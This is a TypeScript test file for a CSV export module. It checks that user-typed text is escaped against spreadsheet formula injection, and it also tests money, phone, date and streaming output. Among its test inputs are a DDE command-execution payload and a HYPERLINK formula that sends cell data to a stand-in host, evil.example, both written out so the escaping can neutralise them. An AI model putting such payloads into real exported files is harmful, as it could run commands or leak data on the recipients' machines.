import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvText, dayCell, csvTimestamp, moneyCell, phoneCell, textCell } from './csv.ts';

/** Parses CSV (RFC 4180) with any separator into rows of cells. */
function read(csv: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < csv.length; at += 1) {
    const letter = csv[at];
    if (quoted) {
      if (letter === '"' && csv[at + 1] === '"') at += 1;
      else if (letter === '"') {
        quoted = false;
        continue;
      }
      cell += letter;
    } else if (letter === '"' && cell === '') quoted = true;
    else if (letter === separator || letter === '\n') {
      rows.at(-1)?.push(cell.replace(/\r$/, ''));
      cell = '';
      if (letter === '\n') rows.push([]);
    } else cell += letter;
  }
  return rows.filter((row) => row.length > 0);
}
const onlyCell = (cell: string) => read(`${cell}\r\n`)[0]?.[0];
const sign = /^[\s\p{Cf}"]*[=+\-@\u2212\uFE62\uFE63\uFE66\uFE6B\uFF0B\uFF0D\uFF1D\uFF20]/u;

describe('what somebody typed', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+1 602 555 0134', "'+1 602 555 0134"],
    ['-2+3+cmd|’ /C calc’!A0', "'-2+3+cmd|’ /C calc’!A0"],
    ['-5', "'-5"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1+1', "'－1+1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['  =1+1', "'  =1+1"],
    ['\u200b\ufeff=1+1', "'\u200b\ufeff=1+1"],
    ['\0=1+1', "'=1+1"],
    ['"=1+1"', `'"=1+1"`],
    ['\t=1+1', "'\t'=1+1"],
    ['\ttext', "'\ttext"],
    ['\rtext', "'\ntext"],
    ['=HYPERLINK("https://evil.example?"&A1,"Ana")', `'=HYPERLINK("https://evil.example?"&A1,"Ana")`],
    // After another separator.
    ['Ana;=1+1', "Ana;'=1+1"],
    ['Ana\n=1+1', "Ana\n'=1+1"],
    ['Ana\t@x', "Ana\t'@x"],
    ['Ana;"=1+1', `Ana;'"=1+1`],
  ])('%j is read as %j', (typed, shown) => {
    expect(onlyCell(textCell(typed))).toBe(shown);
  });

  test.each(['Ana', 'O’Brien, "Bob"', 'Ñandú 🏡', 'one\ntwo', '5% over, 3-4 days', 'ana@example.com', '#1'])(
    '%j stays as it is',
    (typed) => {
      expect(onlyCell(textCell(typed))).toBe(typed);
    },
  );

  test('line breaks of every kind are one, and what no file may hold is left out', () => {
    expect(onlyCell(textCell('a\r\nb\rc\u2028d\0\x07'))).toBe('a\nb\nc\nd');
    expect(textCell('\ud83c')).toBe('"\ufffd"');
    expect([textCell(undefined), textCell('')]).toEqual(['', '']);
  });

  test('comes back whole from a reader, beside any other', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 30 }), { minLength: 2, maxLength: 4 }), (texts) => {
        const [row, ...more] = read(`${texts.map(textCell).join(',')}\r\n`);
        expect(more).toEqual([]);
        expect(row).toHaveLength(texts.length);
      }),
    );
  });

  const dangerous = fc.string({
    unit: fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '\t',
      '\r',
      '\n',
      ';',
      '|',
      '"',
      "'",
      ',',
      ' ',
      '\u200b',
      'a',
      '1',
      '\0',
    ),
  });
  test.each([',', ';', '\t', '|'])('is a formula for no reader that goes by %j', (separator) => {
    fc.assert(
      fc.property(fc.array(dangerous, { minLength: 1, maxLength: 3 }), (texts) => {
        for (const cell of read(`${texts.map(textCell).join(',')}\r\n`, separator).flat()) {
          expect(sign.test(cell), JSON.stringify([texts, cell])).toBe(false);
        }
      }),
      { numRuns: 2000 },
    );
  });
});

test('money is a number with cents', () => {
  expect([410_000, 1250.5, 0.1 + 0.2, -3, 1e9].map(moneyCell)).toEqual([
    '410000.00',
    '1250.50',
    '0.30',
    '-3.00',
    '1000000000.00',
  ]);
  expect([moneyCell(undefined), moneyCell(Number.NaN)]).toEqual(['', '']);
});

test('a phone is never a number, and anything else in its place is text', () => {
  expect(onlyCell(phoneCell('6025550134'))).toBe('(602) 555-0134');
  expect(onlyCell(phoneCell('+16025550134'))).toBe("'+16025550134");
  expect(onlyCell(phoneCell('=1+1'))).toBe("'=1+1");
});

test('days and times are in the form that every spreadsheet knows, by the clock asked for', () => {
  expect([dayCell('2027-01-15'), dayCell('=1+1')]).toEqual(['2027-01-15', `"'=1+1"`]);
  const at = new Date('2026-11-20T00:05:09Z');
  expect(csvTimestamp(at, 'UTC')).toBe('2026-11-20 00:05:09');
  expect(csvTimestamp(at, 'America/Phoenix')).toBe('2026-11-19 17:05:09');
  expect(csvTimestamp(new Date('2026-07-01T04:00:00Z'), 'America/New_York')).toBe('2026-07-01 00:00:00');
});

describe('a table', () => {
  async function* pages(...given: string[][]) {
    yield* given;
  }
  const all = async (csv: AsyncIterable<string>) => {
    let text = '';
    for await (const chunk of csv) text += chunk;
    return text;
  };

  test('is marked as UTF-8, its lines ended as RFC 4180 says', async () => {
    const csv = await all(csvText(['Name'], pages(['Ana'], ['Ben']), (name) => [textCell(name)]));
    expect(csv).toBe('\uFEFF"Name"\r\n"Ana"\r\n"Ben"\r\n');
  });

  test('without rows is its headings', async () => {
    expect(await all(csvText(['Name'], pages(), () => []))).toBe('\uFEFF"Name"\r\n');
    expect(await all(csvText(['Name'], pages([]), () => []))).toBe('\uFEFF"Name"\r\n');
  });

  test('asks for a page when the one before was taken, and not sooner', async () => {
    let pulled = 0;
    async function* counted() {
      for (; pulled < 25;) {
        pulled += 1;
        yield [String(pulled)];
      }
    }
    const csv = csvText(['Name'], counted(), (name) => [textCell(name)]);
    for (let taken = 1; taken <= 3; taken += 1) {
      // oxlint-disable-next-line no-await-in-loop -- one after the other
      await csv.next();
      expect(pulled).toBe(taken);
    }
    await csv.return(undefined);
    expect(pulled).toBe(3);
  });
});
